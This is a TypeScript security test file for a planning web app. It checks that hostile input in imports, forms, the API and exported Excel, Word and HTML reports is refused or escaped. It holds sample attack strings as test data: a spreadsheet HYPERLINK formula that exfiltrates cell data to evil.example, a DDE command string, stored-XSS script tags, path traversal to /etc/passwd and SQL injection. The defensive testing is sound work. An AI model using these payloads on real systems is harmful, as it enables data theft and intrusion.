import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import JSZip from 'jszip'
import { ImportRejected } from '../../src/services/index.ts'
import { PLAN, USERS } from '../web/harness.ts'
import { DIALECTS } from '../helpers/databases.ts'
import { BAD_PERIODS, CSV_CASES, FIGURES, TEXT_PAYLOADS } from './hostile-corpus.ts'
import { type Browser, type SecurityApp, signedInBrowser, startSecurityApp } from './harness.ts'
import { multipart } from './multipart.ts'

/**
 * The hostile input corpus (./hostile-corpus.ts) through every way in: the import service the CLI uses, the web
 * import, the web forms (data entry, exception report, definition, users, delivery status, risk review) and the
 * JSON API, on SQLite and PostgreSQL. Every case ends in a clear error with nothing written, or the text stored as
 * given and shown escaped, in the pages and in the report files.
 */

const Q2 = '2013/14%20Q2'
const HALTON = 'halton-safer-ppb-2012-13'
const HALTON_Q2 = '2012/13%20Q2'

/** Text as Nunjucks autoescaping writes it into a page. */
function escaped(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;')
}

/** The payload appears in the page, escaped (and composed, NFC, as stored), and never as markup. */
function assertShownEscaped(html: string, raw: string, where: string): void {
  const text = raw.normalize('NFC')
  if (/[<>"'&]/.test(text)) assert.ok(!html.includes(text), `${where}: the raw text is in the page`)
  assert.ok(html.includes(escaped(text)), `${where}: the escaped text is not in the page`)
}

const counts = { error: 0, stored: 0 }

for (const dialect of DIALECTS) {
  describe(`hostile input on ${dialect}`, () => {
    let t: SecurityApp
    let officer: Browser
    let admin: Browser
    let owner: Browser
    before(async () => {
      t = await startSecurityApp({ dialect, config: { uploadLimitBytes: 512 * 1024 } })
      officer = await signedInBrowser(t.app, USERS.officer)
      admin = await signedInBrowser(t.app, USERS.admin)
      owner = await signedInBrowser(t.app, USERS.owner)
    })
    after(async () => {
      await t.close()
      if (dialect === DIALECTS.at(-1))
        process.stdout.write(
          `# hostile corpus: ${counts.error} refused with an error, ${counts.stored} stored and shown escaped\n`,
        )
    })

    async function state(): Promise<string> {
      const plans = await t.services.plans.list()
      const trails = await Promise.all(plans.map((plan) => t.services.plans.auditTrail(plan.name)))
      return JSON.stringify({ plans, trails, users: await t.services.auth.listUsers() })
    }

    describe('CSV files, through the import service (the CLI) and the web import', () => {
      for (const [i, c] of CSV_CASES.entries()) {
        it(`${c.error ? 'refuses' : 'stores'} ${c.id}`, async () => {
          const planName = `Hostile import ${i}`
          const before = await state()
          const request = {
            planName,
            indicatorsFile: { name: 'indicators.csv', content: c.indicators },
            observationsFile: { name: 'observations.csv', content: c.observations },
            actor: 'cli:test',
          }
          const web = multipart(
            { _csrf: officer.csrf, planName: `${planName} (web)` },
            { indicators: c.indicators, observations: c.observations },
          )
          if (c.error) {
            await assert.rejects(t.services.imports.importPlan(request), (error: unknown) => {
              assert.ok(error instanceof ImportRejected, String(error))
              assert.match(error.message, c.error ?? /never/)
              return true
            })
            const page = await officer.request({ method: 'POST', url: '/import', ...web })
            assert.equal(page.statusCode, 400, page.body.slice(0, 300))
            assert.match(page.body, /Nothing was imported|Select the indicators CSV file/)
            assert.equal(await state(), before, 'a refused import wrote something')
            counts.error += 1
            return
          }
          const outcome = await t.services.imports.importPlan(request)
          assert.equal(outcome.planCreated, true)
          const response = await officer.request({ method: 'POST', url: '/import', ...web })
          assert.equal(response.statusCode, 303, response.body.slice(0, 300))
          const plan = await t.services.plans.bySlugOrName(planName)
          const data = await t.services.plans.loadPlan(plan.name)
          const stored = data.indicators.find((record) => record.indicator.ref === c.ref)
          assert.ok(stored, `${c.ref ?? ''} is stored`)
          assert.equal(stored.indicator.title, c.title?.normalize('NFC'))
          const page = await officer.get(
            `/plans/${plan.slug}/indicators/${encodeURIComponent(c.ref ?? '')}?period=${Q2}`,
          )
          assert.equal(page.statusCode, 200)
          assertShownEscaped(page.body, (c.title ?? '').split('\n')[0] ?? '', 'indicator page')
          const dashboard = await officer.get(`/plans/${plan.slug}?period=${Q2}`)
          assert.equal(dashboard.statusCode, 200)
          assert.doesNotMatch(dashboard.body, /<script>alert|<img src=x|<svg onload/, 'dashboard and its charts')
          counts.stored += 1
        })
      }

      it('refuses an upload beyond the limit with a clear page, and writes nothing', async () => {
        const before = await state()
        const big = Buffer.alloc(600 * 1024, 'a')
        const web = multipart({ _csrf: officer.csrf, planName: 'Too big' }, { indicators: big, observations: big })
        const response = await officer.request({ method: 'POST', url: '/import', ...web })
        assert.equal(response.statusCode, 413)
        assert.match(response.body, /larger than Outturn accepts\. Nothing was saved/)
        assert.equal(await state(), before)
        counts.error += 1
      })
    })

    /** A form post that must be stored and shown escaped on the page that shows it. */
    const FORMS = [
      {
        name: 'data entry commentary',
        url: `/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`,
        fields: (text: string) => ({ actual: '5.16', note: text }),
        shownAt: `/plans/${PLAN}/indicators/LCA%202?period=${Q2}`,
        as: () => owner,
      },
      {
        name: 'exception report answer',
        url: `/plans/${PLAN}/indicators/STP%2013/exception-report?period=${Q2}`,
        fields: (text: string) => ({ action: 'draft', why: text, baseline: text }),
        shownAt: `/plans/${PLAN}/indicators/STP%2013/exception-report?period=${Q2}`,
        as: () => owner,
      },
      {
        name: 'indicator definition',
        url: `/plans/${PLAN}/indicators/NI%20154/definition`,
        fields: (text: string) => ({
          title: text,
          frequency: 'annual',
          polarity: 'higher',
          unit: '%',
          accumulation: 'point',
          tolerancePct: '5',
          dotBasis: 'previous',
          ragMethod: 'tolerance',
          owner: text,
          reason: text,
        }),
        shownAt: `/plans/${PLAN}/indicators/NI%20154?period=${Q2}`,
        as: () => officer,
      },
      {
        name: 'milestone status commentary',
        url: `/plans/${HALTON}/delivery/CCC%201.2?period=${HALTON_Q2}`,
        fields: (text: string) => ({ status: 'amber', commentary: text, overrideReason: text }),
        shownAt: `/plans/${HALTON}/delivery?period=${HALTON_Q2}`,
        as: () => owner,
      },
      {
        name: 'risk review commentary',
        url: `/plans/${HALTON}/risks/treatments/R1.2?period=${HALTON_Q2}`,
        fields: (text: string) => ({ progress: 'amber', commentary: text }),
        shownAt: `/plans/${HALTON}/risks?period=${HALTON_Q2}`,
        as: () => owner,
      },
      {
        name: 'a user’s name',
        url: '/users',
        fields: (text: string) => ({
          email: `u${Math.random().toString(36).slice(2)}@outturn.example`,
          name: text,
          role: 'viewer',
        }),
        // An invitation answers with its confirmation page, which names the person too.
        status: 200,
        shownAt: '/users',
        as: () => admin,
      },
    ]

    describe('form fields, stored as typed and shown escaped', () => {
      for (const form of FORMS) {
        for (const payload of TEXT_PAYLOADS) {
          it(`${form.name}: ${payload.id}`, async () => {
            const browser = form.as()
            await browser.get(form.shownAt)
            const response = await browser.post(form.url, form.fields(payload.text))
            assert.equal(response.statusCode, form.status ?? 303, response.body.slice(0, 400))
            if (form.status === 200) assertShownEscaped(response.body, payload.text, form.url)
            const page = await browser.get(form.shownAt)
            assert.equal(page.statusCode, 200)
            assertShownEscaped(page.body, payload.text, form.shownAt)
            counts.stored += 1
          })
        }
      }

      it('a NUL and other control characters are dropped from form text, and PostgreSQL never sees them', async () => {
        await owner.get(`/plans/${PLAN}/indicators/LCA%202?period=${Q2}`)
        const response = await owner.post(`/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`, {
          actual: '5.16',
          note: 'before\u0000\u0001\u001b[31m\u0085after\u0007\u009b',
        })
        assert.equal(response.statusCode, 303, response.body.slice(0, 300))
        const trail = await t.services.plans.auditTrail('Trafford ADP 2013/14', 'LCA 2')
        assert.ok(trail.some((event) => event.newValue === 'before[31mafter'))
        counts.stored += 1
      })

      it('an NFD é is stored composed, the same as an NFC one', async () => {
        await owner.get(`/plans/${PLAN}/indicators/LCA%202?period=${Q2}`)
        await owner.post(`/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`, { actual: '5.16', note: 'Cafe\u0301' })
        const trail = await t.services.plans.auditTrail('Trafford ADP 2013/14', 'LCA 2')
        assert.ok(trail.some((event) => event.newValue === 'Caf\u00e9'))
        counts.stored += 1
      })

      it('a commentary of 10,000 characters is stored and shown escaped; one longer, and a body beyond the limit, are refused', async () => {
        const long = `<b>${'long '.repeat(1_998)}</b>`
        assert.equal(long.length, 9_997)
        await owner.get(`/plans/${PLAN}/indicators/LCA%202?period=${Q2}`)
        const ok = await owner.post(`/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`, {
          actual: '5.16',
          note: long,
        })
        assert.equal(ok.statusCode, 303)
        assertShownEscaped((await owner.get(`/plans/${PLAN}/indicators/LCA%202?period=${Q2}`)).body, long, 'long note')
        const before = await state()
        const over = await owner.post(`/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`, {
          actual: '5.17',
          note: `${long}xxxx`,
        })
        assert.equal(over.statusCode, 400)
        assert.match(over.body, /The commentary must be 10,000 characters or fewer: this one has 10,001/)
        assert.equal(await state(), before)
        const huge = await owner.post(`/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`, {
          actual: '5.16',
          note: 'x'.repeat(6 * 1024 * 1024),
        })
        assert.equal(huge.statusCode, 413)
        assert.match(huge.body, /Nothing was saved/)
        assert.equal(await state(), before)
        counts.stored += 1
        counts.error += 1
      })
    })

    describe('figures and periods typed into the entry form', () => {
      for (const figure of FIGURES) {
        it(`${figure.ok ? 'stores' : 'refuses'} the actual ${figure.text} (${figure.why})`, async () => {
          await officer.get(`/plans/${PLAN}/indicators/BV%209/entry?period=${Q2}`)
          const before = await state()
          const response = await officer.post(`/plans/${PLAN}/indicators/BV%209/entry?period=${Q2}`, {
            actual: figure.text,
            target: '58.75',
            reason: 'hostile figures',
          })
          if (!figure.ok) {
            assert.equal(response.statusCode, 400)
            assert.match(response.body, /Enter the actual for Quarter 2 2013\/14 as a number like 12.5/)
            assertShownEscaped(response.body, figure.text, 'the form shown again')
            assert.equal(await state(), before)
            counts.error += 1
            return
          }
          assert.equal(response.statusCode, 303, response.body.slice(0, 300))
          const page = await officer.get(`/plans/${PLAN}/indicators/BV%209?period=${Q2}`)
          assert.equal(page.statusCode, 200, 'the indicator page and its charts survive the figure')
          const report = await officer.get(`/api/plans/${PLAN}/report?period=${Q2}`)
          assert.equal(report.statusCode, 200)
          assert.doesNotMatch(report.body, /NaN|Infinity/)
          counts.stored += 1
        })
      }

      for (const period of BAD_PERIODS) {
        it(`refuses the period "${period}" in the address, with a clear page`, async () => {
          const before = await state()
          const url = `/plans/${PLAN}/indicators/LCA%202/entry?period=${encodeURIComponent(period)}`
          const page = await owner.get(url)
          assert.equal(page.statusCode, 400, page.body.slice(0, 200))
          assert.match(page.body, /is not a (period|financial year)/)
          if (period !== '') assertShownEscaped(page.body, period, 'the error page')
          const post = await owner.post(url, { actual: '5.16', note: 'x' })
          assert.equal(post.statusCode, 400)
          assert.equal(await state(), before)
          counts.error += 1
        })
      }
    })

    describe('the JSON API and addresses', () => {
      const API: { url: string; status: number; why: string; method?: 'POST' | 'PUT' | 'DELETE'; body?: string }[] = [
        ...BAD_PERIODS.map((p) => ({
          url: `/api/plans/${PLAN}/report?period=${encodeURIComponent(p)}`,
          status: 400,
          why: `period "${p}"`,
        })),
        { url: `/api/plans/${PLAN}/report`, status: 400, why: 'no period' },
        { url: `/api/plans/${PLAN}/report?period=2013/14%20Q2&period=2013/14%20Q1`, status: 400, why: 'two periods' },
        { url: `/api/plans/${PLAN}/report?period=${Q2}&theme=%3Cscript%3E`, status: 404, why: 'an unknown theme' },
        {
          url: `/api/plans/%3Cscript%3Ealert(1)%3C%2Fscript%3E/report?period=${Q2}`,
          status: 404,
          why: 'a script as the plan',
        },
        { url: `/api/plans/..%2F..%2Fetc%2Fpasswd/indicators`, status: 404, why: 'a path as the plan' },
        { url: `/api/plans/${'x'.repeat(5000)}/indicators`, status: 414, why: 'a very long plan' },
        { url: `/api/plans/trafford%00/indicators`, status: 400, why: 'a NUL in the plan' },
        { url: `/api/plans/${PLAN}/report?period=2013%2F14%00`, status: 400, why: 'a NUL in the period' },
        { url: `/api/plans/'%20OR%201=1--/indicators`, status: 404, why: 'SQL as the plan' },
        { url: '/api/plans', method: 'POST', body: '{"name":"x"}', status: 403, why: 'a POST to a read-only API' },
        { url: `/api/plans/${PLAN}/indicators`, method: 'DELETE', status: 403, why: 'a DELETE' },
        { url: `/api/plans/${PLAN}/indicators`, method: 'PUT', body: '[]', status: 403, why: 'a PUT' },
        { url: `/plans/${PLAN}/indicators/LCA%202%00/entry?period=${Q2}`, status: 400, why: 'a NUL in a page address' },
      ]
      for (const probe of API) {
        it(`answers ${probe.why} with ${probe.status}, as JSON for the API, and changes nothing`, async () => {
          const before = await state()
          const response = await officer.request({
            method: probe.method ?? 'GET',
            url: probe.url,
            ...(probe.body ? { payload: probe.body, headers: { 'content-type': 'application/json' } } : {}),
          })
          assert.equal(response.statusCode, probe.status, response.body.slice(0, 200))
          if (probe.url.startsWith('/api/') && probe.status !== 403) {
            // The API may echo what it was given, as JSON that no browser runs as a page.
            assert.match(String(response.headers['content-type']), /^application\/json/)
            assert.equal(response.headers['x-content-type-options'], 'nosniff')
            const body = JSON.parse(response.body) as { error?: string }
            if (probe.status !== 200) assert.ok(body.error, 'a JSON error')
          } else {
            assert.doesNotMatch(response.body, /<script>alert/)
          }
          assert.equal(await state(), before)
          counts.error += probe.status === 200 ? 0 : 1
          counts.stored += probe.status === 200 ? 1 : 0
        })
      }

      it('takes a JSON body on a form route only with the CSRF token, like any other', async () => {
        const before = await state()
        const url = `/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`
        const forged = await owner.request({
          method: 'POST',
          url,
          payload: JSON.stringify({ actual: '1', note: 'forged' }),
          headers: { 'content-type': 'application/json' },
        })
        assert.equal(forged.statusCode, 403)
        const text = await owner.request({
          method: 'POST',
          url,
          payload: `_csrf=${owner.csrf}&actual=1`,
          headers: { 'content-type': 'text/plain' },
        })
        assert.equal(text.statusCode, 403, 'a text body holds no fields, so no token')
        assert.equal(await state(), before)
        counts.error += 2
      })
      // The address after sign-in has its own table: security/return-to.db.test.ts.
    })

    describe('the report files hold the stored text as text', () => {
      const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
      const SCRIPT = '<script>alert("stored-xss")</script>'
      const DDE = "+cmd|' /C calc'!A0"
      before(async () => {
        await officer.get(`/plans/${PLAN}/indicators/NI%20154/definition`)
        const [definition] = FORMS.filter((form) => form.name === 'indicator definition').map((form) =>
          form.fields(HYPERLINK),
        )
        assert.equal(
          (await officer.post(`/plans/${PLAN}/indicators/NI%20154/definition`, definition ?? {})).statusCode,
          303,
        )
        await owner.get(`/plans/${PLAN}/indicators/STP%2013?period=${Q2}`)
        const report = await owner.post(`/plans/${PLAN}/indicators/STP%2013/exception-report?period=${Q2}`, {
          action: 'submit',
          baseline: SCRIPT,
          why: SCRIPT,
          implications: DDE,
          improvement: '@SUM(A1:A9)',
        })
        assert.equal(report.statusCode, 303)
        const note = await owner.post(`/plans/${PLAN}/indicators/LCA%202/entry?period=${Q2}`, {
          actual: '5.16',
          note: DDE,
        })
        assert.equal(note.statusCode, 303)
      })
      const unxml = (xml: string): string =>
        xml
          .replaceAll('&lt;', '<')
          .replaceAll('&gt;', '>')
          .replaceAll('&quot;', '"')
          .replaceAll('&apos;', "'")
          .replaceAll('&amp;', '&')

      it('Excel: no formulas anywhere, and formula-like text marked as text', async () => {
        const response = await officer.get(`/plans/${PLAN}/download/xlsx?period=${Q2}`)
        assert.equal(response.statusCode, 200)
        const zip = await JSZip.loadAsync(response.rawPayload)
        const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))
        assert.ok(sheets.length >= 3)
        for (const name of sheets) {
          const xml = (await zip.file(name)?.async('string')) ?? ''
          assert.doesNotMatch(xml, /<f[ >]/, `${name} has a formula`)
        }
        const strings = (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? ''
        assert.ok(
          strings.includes(escaped('=HYPERLINK("http://evil.example/?d="&A1,"Click")').replaceAll('&#39;', "'")),
        )
      })

      it('Word and the standalone web page: the script is text, and the files are well-formed', async () => {
        const docx = await officer.get(`/plans/${PLAN}/download/docx?period=${Q2}`)
        assert.equal(docx.statusCode, 200)
        const document =
          (await (await JSZip.loadAsync(docx.rawPayload)).file('word/document.xml')?.async('string')) ?? ''
        assert.ok(document.length > 1000)
        assert.doesNotMatch(document, /<script/)
        assert.ok(unxml(document).includes(SCRIPT), 'the exception report’s answer is in the Word file as text')
        assert.doesNotMatch(document, /[\u0000-\u0008\u000B\u000C\u000E-\u001F]/) // eslint-disable-line no-control-regex
        assert.doesNotMatch(document, /HYPERLINK "http:\/\/evil|DDEAUTO|DDE /, 'no field code from the data')
        const html = await officer.get(`/plans/${PLAN}/download/html?period=${Q2}`)
        assert.equal(html.statusCode, 200)
        assert.doesNotMatch(html.body, /<script|<img src=x|<svg onload|onerror=/i)
        assert.ok(html.body.includes(escaped(SCRIPT)))
        assert.ok(html.body.includes(escaped(HYPERLINK)))
      })
    })
  })
}
